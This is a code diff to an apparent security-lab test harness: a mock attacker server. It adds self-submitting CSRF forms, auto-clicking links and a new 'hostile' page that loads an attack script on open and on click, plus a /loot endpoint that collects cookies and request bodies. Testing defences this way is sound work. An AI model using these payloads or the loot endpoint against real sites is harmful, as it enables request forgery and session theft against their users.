@@ -21,10 +21,20 @@ const pages = {
   form: (target: string) =>
     `<form method="post" action="${target}"></form><script>document.forms[0].submit()</script>`,
   link: (target: string) => `<a href="${target}">A prize!</a><script>document.links[0].click()</script>`,
+  // Tries to break the lab at the target, by itself and again at a click, when it may open windows.
+  hostile: (target: string) =>
+    `<button>A prize!</button><script type="module">
+      import { attack } from '/hostile.js';
+      const strike = (when) => attack('${target}', when);
+      document.querySelector('button').onclick = () => strike('clicked');
+      strike('opened');
+    </script>`,
 };
 
+/** Scripts that a page of any origin may import. */
+const scripts = ['injected.js', 'hostile.js'];
+
 export async function startAttacker() {
-  const script = await readFile(new URL('injected.js', import.meta.url));
   const loot: Loot[] = [];
   const server = createServer(async (request, response) => {
     const { pathname, searchParams } = new URL(request.url ?? '/', 'http://attacker');
@@ -32,9 +42,9 @@ export async function startAttacker() {
     if (pathname === '/loot') {
       loot.push({ cookie: request.headers.cookie ?? '', body: await text(request) });
       response.end();
-    } else if (pathname === '/injected.js') {
+    } else if (scripts.includes(pathname.slice(1))) {
       response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
-      response.end(script);
+      response.end(await readFile(new URL(pathname.slice(1), import.meta.url)));
     } else {
       const page = Object.entries(pages).find(([name]) => pathname === `/${name}`)?.[1];
       response.writeHead(page ? 200 : 404, { 'content-type': 'text/html' });
